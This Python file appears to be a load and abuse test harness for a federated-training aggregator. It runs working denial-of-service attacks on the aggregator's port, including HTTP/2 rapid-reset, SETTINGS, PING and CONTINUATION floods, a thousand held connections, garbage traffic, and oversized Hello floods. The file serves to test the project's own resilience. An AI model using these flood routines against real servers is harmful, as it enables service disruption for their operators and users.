"""Attacks on an aggregator's port, each in a process of its own: NAME HOST PORT CERTS SECONDS.

CERTS is the folder of an enrolled site (key.pem, cert.pem, root.pem), which is hostile. Only the standard
library speaks here, but for the Hellos, which are real ones.
"""

from __future__ import annotations

import asyncio
import errno
import os
import resource
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any, cast

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
PATH = "/fedtrain.Star/Session"
ELSEWHERE = "127.0.0.2"  # another machine than the honest sites'
CONNECTIONS = 3  # of an attack over HTTP/2


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(path: str = PATH, more: int = 0) -> bytes:
    """A header block of literals, with `more` bytes of metadata."""
    pairs = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "a"),
             ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
    pairs += [(f"x-{i}", "v" * 100) for i in range(more // 104)]
    return b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in pairs)


class Http2:
    """One TLS connection of the hostile site, by hand. What comes back is read and forgotten."""

    def __init__(self, host: str, port: int, certs: Path) -> None:
        context = ssl.create_default_context(cafile=certs / "root.pem")
        context.check_hostname = False
        context.load_cert_chain(certs / "cert.pem", certs / "key.pem")
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection((host, port), 5, (ELSEWHERE, 0)))
        self.socket.settimeout(1.0)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.stream = -1

    def send(self, data: bytes) -> None:
        self.socket.sendall(data)
        self.socket.setblocking(False)
        with suppress(ssl.SSLWantReadError, BlockingIOError):
            while self.socket.recv(1 << 16):
                pass
        self.socket.settimeout(1.0)

    def next(self) -> int:
        self.stream += 2
        return self.stream


def over_http2(burst: Callable[[Http2], bytes]) -> Callable[[str, int, Path, float], None]:
    """An attack that sends bursts over a few connections, and makes those anew that are ended."""

    def attack(host: str, port: int, certs: Path, until: float) -> None:
        made: list[Http2 | None] = [None] * CONNECTIONS
        while time.monotonic() < until:
            for i, connection in enumerate(made):
                try:
                    connection = made[i] = connection or Http2(host, port, certs)
                    connection.send(burst(connection))
                except OSError:
                    made[i] = None

    return attack


def resets(c: Http2) -> bytes:
    cancel, block = struct.pack(">I", 8), headers()
    bursts = []
    for _ in range(100):
        stream = c.next()
        bursts.append(frame(HEADERS, 4, stream, block) + frame(RST, 0, stream, cancel))
    return b"".join(bursts)


def streams(c: Http2) -> bytes:
    return b"".join(frame(HEADERS, 4, c.next(), headers()) for _ in range(100))


def settings(c: Http2) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 5) * 200


def pings(c: Http2) -> bytes:
    return frame(PING, 0, 0, os.urandom(8)) * 200


def metadata(c: Http2) -> bytes:
    """A block that goes on for 1 MB."""
    block, stream = headers(more=1 << 20), c.next()
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    ends = [0] * (len(parts) - 1) + [4]
    return frame(HEADERS, ends[0], stream, parts[0]) + b"".join(
        frame(CONTINUATION, end, stream, part) for part, end in zip(parts[1:], ends[1:], strict=True)
    )


def busy(host: str, port: int, certs: Path, until: float) -> None:
    """No attack: what it costs that the attacker takes a core of the same machine."""
    while time.monotonic() < until:
        pass


def held(says: bytes) -> Callable[[str, int, Path, float], None]:
    """A thousand connections that say no more than this, made anew when they are closed."""

    def attack(host: str, port: int, certs: Path, until: float) -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        selector, there = selectors.DefaultSelector(), 0
        while time.monotonic() < until:
            while there < 1000:
                one = socket.socket()
                one.setblocking(False)
                one.bind((ELSEWHERE, 0))
                if one.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
                    one.close()
                    break
                selector.register(one, selectors.EVENT_READ | (selectors.EVENT_WRITE if says else 0))
                there += 1
            for key, ready in selector.select(0.05):
                one = cast(socket.socket, key.fileobj)
                if ready & selectors.EVENT_READ:
                    selector.unregister(one)
                    one.close()
                    there -= 1
                else:
                    selector.modify(one, selectors.EVENT_READ)
                    with suppress(OSError):
                        one.send(says)

    return attack


def garbage(host: str, port: int, certs: Path, until: float) -> None:
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection((host, port), 1, (ELSEWHERE, 0)) as one:
            one.sendall(os.urandom(4096))


def hellos(host: str, port: int, certs: Path, until: float) -> None:
    """Joins that are refused, as many as go: of another protocol."""
    asyncio.run(_sessions(host, port, certs, until, lambda schema: {"protocol": 0}, 8))


def large_hellos(host: str, port: int, certs: Path, until: float) -> None:
    """Eight at a time of 4 MiB each: a model of 90,000 tensors."""
    asyncio.run(_sessions(host, port, certs, until, lambda schema: {"schema": schema}, 8))


async def _sessions(
    host: str, port: int, certs: Path, until: float, of: Callable[..., dict[str, Any]], at_once: int
) -> None:
    from fedtrain.errors import FedtrainError
    from fedtrain.pki import Credentials, aggregator_target
    from fedtrain.schema import Schema, TensorSpec
    from fedtrain.transport.grpc import GrpcTransport
    from fedtrain.transport.tls import Tls
    from fedtrain.wire.codec import encode
    from fedtrain.wire.frames import PROTOCOL, Hello

    own = Credentials.load(certs)
    transport = GrpcTransport(Tls(own.key, own.chain, own.root), 5.0)
    small = Schema((TensorSpec("w", (SIZE,), "float32", True),))
    many = Schema(tuple(TensorSpec(f"layer.{i:06}", (1, 2), "float32", True) for i in range(90_000)))
    known: dict[str, Any] = {
        "protocol": PROTOCOL,
        "version": "0",
        "task_digest": "t",
        "schema": small,
        "agreed": {},
    }
    frames = [encode(Hello(**known | of(many))) for _ in range(at_once)]

    async def one(data: bytes) -> None:
        while time.monotonic() < until:
            with suppress(FedtrainError, TimeoutError):
                async with (
                    asyncio.timeout(until - time.monotonic()),
                    transport.connect(f"{host}:{port}", aggregator_target("fedtrain")) as call,
                ):
                    while True:
                        async with call("Session") as stream:
                            await stream.write(data)
                            while await stream.read() is not None:
                                pass

    await asyncio.gather(*map(one, frames))


SIZE = 100  # numbers in the honest model
ATTACKS = {
    "a busy core": busy,
    "1,000 silent connections": held(b""),
    "1,000 handshakes of a byte": held(b"\x16"),
    "garbage": garbage,
    "rapid reset": over_http2(resets),
    "streams": over_http2(streams),
    "settings": over_http2(settings),
    "pings": over_http2(pings),
    "metadata": over_http2(metadata),
    "refused joins": hellos,
    "large Hellos": large_hellos,
}

if __name__ == "__main__":
    name, host, port, certs, seconds = sys.argv[1:]
    ATTACKS[name](host, int(port), Path(certs), time.monotonic() + float(seconds))
